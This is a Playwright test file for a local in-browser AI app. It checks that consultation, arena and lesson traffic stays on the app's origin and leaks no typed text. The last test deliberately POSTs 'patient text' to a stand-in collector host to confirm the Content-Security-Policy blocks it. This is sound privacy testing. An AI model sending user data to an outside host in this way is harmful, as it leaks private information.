import { expect, loadBundledModel, test, type Network } from './fixtures';

/**
 * Every request recorded so far stays on the app's origin and carries none of the needles, in its URL,
 * its body or its headers.
 */
function expectNothingLeaves(network: Network, origin: string, needles: string[]): void {
  for (const r of network.requests) {
    const url = r.url();
    expect(url.startsWith(origin) || url.startsWith('blob:') || url.startsWith('data:'), `request to ${url}`).toBe(true);
    const carried = `${url}\n${r.postData() ?? ''}\n${JSON.stringify(r.headers())}`;
    for (const n of needles) expect(carried, `request ${r.method()} ${url}`).not.toContain(n);
  }
}

test('no request made during a consultation carries the message text', async ({ page, network }) => {
  const secret = 'Patient Zelda Quixote, MRN 99817, HIV positive';
  await page.goto('./');
  await loadBundledModel(page);
  const before = network.requests.length;
  await page.getByLabel('Message').fill(secret);
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.locator('article.message.assistant').last()).toHaveAttribute('data-status', 'complete');
  await page.reload();
  await expect(page.locator('article.message.user')).toContainText('Zelda Quixote');

  expectNothingLeaves(network, new URL(page.url()).origin, ['Zelda', 'Quixote', '99817', encodeURIComponent('Zelda Quixote')]);
  // The check looked at real traffic: the reload fetched the app again.
  expect(network.requests.length).toBeGreaterThan(before);
});

test('no request made during an arena round and its vote carries the prompt or leaves the origin', async ({ page, network }) => {
  // Two contestant engines load the model on a shared machine: allow for it, but generate only a few tokens.
  test.setTimeout(300_000);
  const marker = 'Arena-Zephyrine-40417';
  await page.goto('./?model=stories260K#/compare');
  for (const n of [1, 2]) {
    await page.getByLabel(`Contestant ${n} max tokens`).fill('8');
    await page.getByLabel(`Contestant ${n} max tokens`).blur();
  }
  await page.getByRole('tab', { name: 'Arena' }).click();
  const before = network.requests.length;
  await page.getByRole('textbox', { name: 'Prompt', exact: true }).fill(`${marker} once upon a time`);
  await page.getByRole('button', { name: 'Send to all' }).click();
  const panel = page.getByRole('tabpanel');
  for (const side of ['A', 'B']) {
    await expect(panel.getByRole('article', { name: `Reply: Model ${side}` })).toHaveAttribute('data-status', 'complete', {
      timeout: 240_000,
    });
  }
  await page.getByRole('button', { name: 'A is better' }).click();
  await expect(panel.getByRole('status')).toContainText('Vote stored');

  expectNothingLeaves(network, new URL(page.url()).origin, [marker, encodeURIComponent(marker)]);
  // The check looked at real traffic: the contestants' engines fetched the model after the prompt was typed.
  expect(network.requests.length).toBeGreaterThan(before);
});

test('no request made while a lesson is built and presented carries its text or leaves the origin', async ({ page, network }) => {
  test.setTimeout(180_000);
  const marker = 'Lesson-Quillon-55821';
  const suite = [
    JSON.stringify({ suite: 'private-lesson', name: 'Private lesson', version: 1, source: 'test', licence: 'CC0', count: 1 }),
    JSON.stringify({
      id: 'pl1',
      question: `${marker}: which organ pumps blood?`,
      options: { A: 'Heart', B: `${marker} liver` },
      answer: 'A',
    }),
  ].join('\n');
  await page.goto('./?model=stories260K#/bench');
  await page
    .getByLabel('Import suite file')
    .setInputFiles({ name: 'private.jsonl', mimeType: 'application/jsonl', buffer: Buffer.from(suite) });
  await expect(page.getByText('Imported 1 item from private.jsonl')).toBeVisible();

  await page.getByRole('link', { name: 'Classroom' }).click();
  await page.getByLabel('Lesson title').fill(`${marker} week`);
  await page.getByLabel('Lesson model').selectOption('stories260K');
  await page.getByLabel('Suite').selectOption({ label: 'Private lesson (imported)' });
  await page.getByRole('button', { name: 'Add pl1' }).click();
  await page.getByLabel('Note for question 1').fill(`${marker} teacher note`);
  await page.getByRole('button', { name: 'Save lesson' }).click();
  const before = network.requests.length;
  await page.getByRole('button', { name: `Present ${marker} week` }).click();
  const presenter = page.getByRole('dialog', { name: 'Presenter' });
  await expect(presenter.locator('.question')).toContainText(marker);
  await page.keyboard.press('m');
  await expect(presenter.getByRole('meter', { name: /^TinyStories 260K \(test model\): / })).toHaveCount(2, { timeout: 120_000 });
  await page.keyboard.press('r');
  await expect(presenter.getByRole('status')).toContainText('Answer: A');
  await page.keyboard.press('ArrowRight');
  await expect(presenter.getByRole('heading', { name: 'End of lesson' })).toBeVisible();

  expectNothingLeaves(network, new URL(page.url()).origin, [marker, encodeURIComponent(marker)]);
  // The check looked at real traffic: presenting loaded the model after the lesson was written.
  expect(network.requests.length).toBeGreaterThan(before);
});

test('the Content-Security-Policy blocks the page from sending anything to a host that is not a model host', async ({ page }) => {
  await page.goto('./');
  const violation = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }),
    );
    await fetch('https://collector.example.org/log', { method: 'POST', body: 'patient text' }).catch(() => undefined);
    return seen;
  });
  expect(violation).toBe('connect-src');
});
